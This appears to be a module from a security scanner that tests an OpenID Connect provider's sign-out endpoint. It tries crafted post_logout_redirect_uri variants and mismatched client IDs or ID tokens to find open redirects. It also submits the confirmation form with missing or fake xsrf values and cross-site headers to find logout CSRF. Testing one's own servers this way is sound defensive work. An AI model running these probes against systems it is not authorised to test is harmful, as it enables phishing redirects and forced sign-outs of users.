import { type Attack, CONCURRENCY, forEach, type Tally } from "../attack.ts";
import { Undecided } from "../errors.ts";
import { Browser, pathOf, withoutUndefined } from "../oidc/browser.ts";
import { type OidcClients, requireClients } from "../oidc/clients.ts";
import { openScene } from "../oidc/scene.ts";
import { getTokens, isAlive, type Scene } from "../oidc/tokens.ts";
import { redirectVariants } from "../payloads/redirect-variants.ts";
import { isSignedIn } from "../target.ts";

export const oidcSignOut: Attack = {
  name: "oidc-sign-out",
  about: "sign-outs that an app begins: their addresses, and the form that confirms them",
  meaning: "A link to your own server sends users to another site, or signs them out.",
  noun: "requests",
  verb: "got through",
  needs: ["account", "clients"],

  async run(target, tally) {
    const clients = requireClients(target);
    const scene = await openScene(target);
    await toOthers(scene, clients, tally);
    await unconfirmed(scene, clients, tally);
  },
};

const secretIn = (html: string): string => /name="xsrf" value="([^"]+)"/.exec(html)?.[1] ?? "";

async function toOthers(scene: Scene, { app, other }: OidcClients, tally: Tally): Promise<void> {
  const { target, provider, session } = scene;
  const path = pathOf(provider, "end_session_endpoint");
  const own = app.signOutRedirect ?? app.redirect;
  const { id: hint } = await getTokens(scene, app);
  const { id: foreign } = await getTokens(scene, other);
  // Nobody is signed in, so that the server does not ask before it redirects.
  const leaves = async (query: Record<string, string>): Promise<string | undefined> => {
    const browser = new Browser(target, provider);
    const place = await browser.go({ path: `${path}?${new URLSearchParams(query)}` });
    const xsrf = secretIn(place.response.body);
    if (place.away !== undefined || xsrf === "") return place.away;
    return (await browser.go({ path: `${path}/confirm`, form: { xsrf, logout: "yes" } })).away;
  };
  if (app.signOutRedirect !== undefined) {
    const query = { client_id: app.id, post_logout_redirect_uri: own };
    if ((await leaves(query)) === undefined)
      throw new Undecided("a sign-out does not return to the address of its app");
  }
  const named: readonly (readonly [string, Record<string, string>])[] = [
    ["no client", {}],
    ["its ID", { client_id: app.id }],
    ["an ID token", withoutUndefined({ id_token_hint: hint })],
  ];
  const variants = redirectVariants(own).filter((_, at) => at % 12 === 0);
  await forEach(
    variants.flatMap((uri) => named.map(([how, query]) => [uri, how, query] as const)),
    CONCURRENCY,
    async ([uri, how, query]) => {
      tally.tried();
      const away = await leaves({ ...query, post_logout_redirect_uri: uri });
      if (away !== undefined)
        tally.gotThrough(`with ${how}, a sign-out goes to ${JSON.stringify(uri.slice(0, 100))}`);
    },
  );
  if (app.signOutRedirect === undefined) return;
  const mixed: readonly (readonly [string, Record<string, string>])[] = [
    ["the ID of another client", { client_id: other.id }],
    ["the ID token of another client", withoutUndefined({ id_token_hint: foreign })],
    [
      "the ID token of another client beside its ID",
      withoutUndefined({ id_token_hint: foreign, client_id: app.id }),
    ],
    ["an unknown client", { client_id: "unknown" }],
    ["no ID token", { client_id: app.id, id_token_hint: "x" }],
  ];
  for (const [how, query] of mixed) {
    tally.tried();
    const away = await leaves({ ...query, post_logout_redirect_uri: own });
    if (away !== undefined)
      tally.gotThrough(`with ${how}, a sign-out goes to the address of an app`);
  }
  tally.tried();
  const browser = new Browser(target, provider, session);
  const query = new URLSearchParams({ client_id: app.id, post_logout_redirect_uri: own });
  const place = await browser.go({ path: `${path}?${query}` });
  if (place.away !== undefined) tally.gotThrough("an app signs a user out without a question");
}

const CROSS_SITE = { "Sec-Fetch-Site": "cross-site", Origin: "https://elsewhere.example" };

/** Sends the form that confirms without its secret. */
async function unconfirmed(scene: Scene, { app }: OidcClients, tally: Tally): Promise<void> {
  const { target, provider, session } = scene;
  const path = pathOf(provider, "end_session_endpoint");
  const confirm = `${path}/confirm`;
  const attacker = new Browser(target, provider);
  const stolen = secretIn((await attacker.go({ path })).response.body);
  const forms = [undefined, "", "x", "undefined", "null", "[object Object]", stolen];
  for (const opened of ["before", "after"]) {
    for (const xsrf of forms) {
      for (const logout of ["yes", undefined]) {
        const { access } = await getTokens(scene, app);
        const browser = new Browser(target, provider, session);
        if (opened === "after") {
          await browser.go({ path: `${path}?${new URLSearchParams({ client_id: app.id })}` });
        }
        const form = withoutUndefined({ xsrf, logout });
        tally.tried();
        await browser.ask({ path: confirm, form, headers: CROSS_SITE });
        await browser.ask({ path: `${confirm}?${new URLSearchParams(form)}` });
        if (!(await isSignedIn(target, `session=${session}`))) {
          tally.gotThrough("a form without its secret signs a user out");
          return;
        }
        if (!(await isAlive(scene, access))) {
          tally.gotThrough("a form without its secret signs a user out of an app");
          return;
        }
      }
    }
  }
}
